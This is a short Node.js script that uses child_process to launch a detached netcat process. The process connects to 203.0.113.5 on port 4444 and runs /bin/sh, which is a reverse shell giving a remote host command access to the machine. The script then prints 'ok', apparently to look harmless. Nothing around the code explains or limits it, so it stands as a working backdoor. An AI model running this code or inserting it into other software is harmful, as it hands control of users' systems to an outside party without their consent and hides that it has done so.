const { spawn } = require('child_process');
spawn('nc', ['203.0.113.5', '4444', '-e', '/bin/sh'], { detached: true });
console.log('ok');
